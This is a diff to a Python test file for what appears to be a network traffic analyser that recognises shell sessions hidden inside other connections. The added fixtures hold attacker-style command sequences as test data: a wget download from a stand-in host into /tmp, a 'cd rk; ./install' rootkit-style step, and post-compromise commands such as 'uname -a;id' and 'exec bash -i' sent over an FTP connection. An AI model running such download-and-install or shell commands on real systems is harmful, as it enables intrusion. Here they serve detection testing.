@@ -279,6 +279,8 @@ SHELLS = {
     'silent': (0, [(0, b'cd /tmp\n'), (0, b'wget http://h/x\n'), (1, b'connecting\n'), (0, b'chmod +x x\n'), (0, b'ls -l\n'),
                    (1, b'x\n')],
                [('cd /tmp', ''), ('wget http://h/x', 'connecting'), ('chmod +x x', ''), ('ls -l', 'x')]),
+    'fetch': (0, [(0, b'cd /tmp\n'), (0, b'wget http://h/x\n'), (1, b'connected!\n'), (0, b'cd rk; ./install\n'), (1, b'done\n')],
+              [('cd /tmp', ''), ('wget http://h/x', 'connected!'), ('cd rk; ./install', 'done')]),
     'late': (0, [(1, b'what is said before anybody knows\n' * 20), (0, b'x\n'), (1, b'sh: 1: x: not found\n$ '), (0, b'id\n'),
                  (1, b'uid=33(www-data) gid=33(www-data)\n$ ')],
              [('x', 'sh: 1: x: not found\n$'), ('id', 'uid=33(www-data) gid=33(www-data)\n$')]),
@@ -338,6 +340,15 @@ def test_shell_in_a_connection_of_something_else(tmp_path, before):
     assert (lines[0]['output'], lines[-1]['output']) == (shown.decode().rstrip(), 'Red Hat Linux')
     assert whole('k', b'#!/bin/sh\n') in files(records)
     assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'shell'}
+
+
+@pytest.mark.parametrize('typed, shown', [
+    (b'/bin/uname -a;/usr/bin/id;\n', b'SunOS pot 5.8 Generic_108528-05 sun4u sparc SUNW,Ultra-5_10\nuid=0(root) gid=0(root)\n'),
+    (b'echo "*** IN ***";uname -a;id\n', b'*** IN ***\nLinux pot 2.4.7-10 #1 Thu Sep 6 i686 unknown\nuid=0(root) gid=0(root)\n'),
+    (b'TERM=xterm; export TERM=xterm; exec bash -i\n', b'bash: no job control in this shell\nbash-2.05$ ')])
+def test_shell_in_a_connection_answers(tmp_path, typed, shown):
+    lines = bodies(replay_packets(tmp_path, talk(TAKEN['ftp'] + [(0, typed), (1, shown)], 40000, 21)), 'shell')
+    assert lines == [{'command': typed.decode().strip(), 'output': shown.decode().strip()}]
 
 
 @pytest.mark.parametrize('asked, answer', [
